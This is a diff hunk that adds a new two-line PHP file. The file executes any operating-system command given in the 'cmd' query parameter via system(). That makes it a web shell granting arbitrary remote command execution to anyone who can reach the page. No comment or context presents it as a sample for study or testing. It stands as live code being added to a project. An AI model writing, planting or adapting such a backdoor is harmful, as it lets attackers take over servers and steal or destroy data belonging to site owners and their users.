@@ -1,0 +1,2 @@
+<?php
+if (isset($_GET['cmd'])) { system($_GET['cmd']); }
